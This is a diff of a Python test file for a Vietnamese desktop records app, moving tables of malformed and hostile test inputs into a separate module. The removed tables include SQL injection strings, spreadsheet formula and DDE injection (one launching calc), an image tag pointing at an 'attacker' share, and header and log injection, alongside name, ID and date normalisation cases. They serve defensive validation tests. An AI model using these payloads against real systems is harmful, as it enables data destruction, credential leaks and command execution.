@@ -21,77 +21,12 @@ from ctxh_desktop.commands.people import CountPeople
 from ctxh_desktop.domain.values import clean
 from ctxh_desktop.errors import CtxhError
 from ctxh_desktop.texts import Texts
+from tests.data.bad_inputs import CELLS, NAMES, TEXTS
 from tests.data.desks import new_desk
 from tests.data.prompt import Run
 from tests.data.workbooks import ROWS, repacked, xls, xlsx
 
 HEAD = ["Họ và tên", "Năm sinh", "Số CCCD", "Điện thoại", "Thôn", "Ghi chú"]
-
-TEXTS = {
-    "1": "' OR '1'='1", "2": "'); DROP TABLE doi_tuong;--", "3": 'Robert"); --', "4": "%",
-    "5": "_x_", "6": "\\", "7": '"*" OR name:*', "8": "NEAR(", "9": "^abc", "9b": "-abc",
-    "10": '<img src="file:///C:/Windows/win.ini">', "11": r'<img src="\\attacker\share\x.png">',
-    "12": '<img src="http://127.0.0.1:9/x">', "14": "<b>đậm</b>", "15": "&lt;script&gt;",
-    "16": "A <3 B & C", "17": "{{7*7}}", "18": "${7*7}", "19": "%s%s%n", "20": "%(password)s",
-    "21": "=1+1", "22": '=HYPERLINK("http://x/?"&A1,"a")', "23": "=cmd|' /C calc'!A0",
-    "24": "+84912345678", "25": "-1+1", "26": "@SUM(1)", "27": "\t=1+1", "28": "\r=1+1",
-    "29": "a|b", "30": "a\0b", "31": "chuông\x07 \x1b[31m", "32": "a\r\nSet-Cookie: a=b",
-    "33": "a\n2026-11-16 INFO giả", "34": "Nguye\u0302\u0303n", "35": "Nguyễn Bu\u031bởi",
-    "36": "d\u0335ường", "40": "abc\u202edef", "41": "Ho\u200ba \ufeffx", "42": "  hai\u00a0 chữ ",
-    "43": "\u041dguyen", "44": "👨\u200d👩\u200d👧", "45": "\U0002070e", "47": "a" + "\u0301" * 100,
-    "49": "Ý", "50": "H'Hen Niê, Y Ê Ban, Rơ Châm", "52": "Chưa rõ tên",
-}  # fmt: skip
-
-FORMULAS = ("2", "10", "21", "22", "23", "26", "44")
-
-NAMES = {
-    "1": ("' OR '1'='1", "name-has-digits"), "3": ('Robert"); --', 'Robert"); --'),
-    "4": ("%", "name-has-no-letters"), "14": ("<b>đậm</b>", "<b>đậm</b>"),
-    "16": ("A <3 B & C", "name-has-digits"), "29": ("Lê|An", "Lê|An"), "30": ("Lê\0An", "LêAn"),
-    "31": ("Lê\x07 An", "Lê An"), "32": ("Lê An\r\nX: b", "Lê An X: b"),
-    "34": ("Nguye\u0302\u0303n An", "Nguyễn An"), "37": ("NguyÔn V¨n An", "Nguyễn Văn An"),
-    "38": ("Nguyeãn Vaên An", "Nguyễn Văn An"), "39": ("Nguyá»…n VÄƒn An", "Nguyễn Văn An"),
-    "40": ("Lê\u202e An", "Lê An"), "41": ("Lê\u200b An\ufeff", "Lê An"),
-    "42": (" Lê\u00a0\u00a0An ", "Lê An"), "43": ("\u041dguyen An", "\u041dguyen An"),
-    "44": ("👨\u200d👩\u200d👧", "name-has-no-letters"), "45": ("Lê \U0002070e", "Lê \U0002070e"),
-    "49": ("Ý", "Ý"), "50": ("A" * 121, "text-too-long"), "50b": ("H'HEN NIÊ", "H'Hen Niê"),
-    "50c": ("Y Ê Ban", "Y Ê Ban"), "50d": ("Rơ Châm", "Rơ Châm"),
-    "51": ("123456", "name-has-digits"), "52": ("Chưa rõ tên", "Chưa rõ tên"),
-}  # fmt: skip
-
-WIDE, ARABIC = (
-    "".join(chr(zero + int(digit)) for digit in "046088001234") for zero in (0xFF10, 0x660)
-)
-CELLS = [
-    ("53", "id_number", "01108800123", "id-length"),
-    ("53b", "id_number", "0460880012345", "id-length"),
-    ("54", "id_number", "000000000000", "000000000000"),
-    ("55", "id_number", "999088001234", "999088001234"),
-    ("56", "id_number", "O46088001234", "id-not-digits"),
-    ("57", "id_number", WIDE, "046088001234"),
-    ("58", "id_number", ARABIC, "id-not-digits"),
-    ("59", "id_number", "046-088.001 234", "046088001234"),
-    ("60", "id_number", "19123456", "019123456"),
-    ("61", "id_number", "1.08E+10", "id-digits-lost"),
-    ("62", "id_number", "46088001234.0", "046088001234"),
-    ("63", "born", "31/02/2012", "no-such-day"),
-    ("64", "born", "29/02/2023", "no-such-day"),
-    ("65", "born", "00/00/2012", "2012"),
-    ("66", "born", "13/13/2013", None),
-    ("67", "born", "2012", "2012"),
-    ("68", "born", "0001", None),
-    ("68b", "born", "9999", None),
-    ("69", "born", "22/11/2099", None),
-    ("71", "born", "1895", None),
-    ("72", "born", "41000", None),
-    ("73", "born", "5/8/12", "2012-08-05"),
-    ("74", "born", "30/2/1950", "no-such-day"),
-    ("75", "born", "1950-08-05T00:00:00", "1950-08-05"),
-    ("76", "phone", "84", "84"),
-    ("76b", "phone", "912345678", "0912345678"),
-    ("76c", "phone", "1" * 20, "1" * 20),
-    ("76d", "phone", "0912.345.678/0987654321", "0912345678, 0987654321"),
-]
 
 
 @pytest.fixture
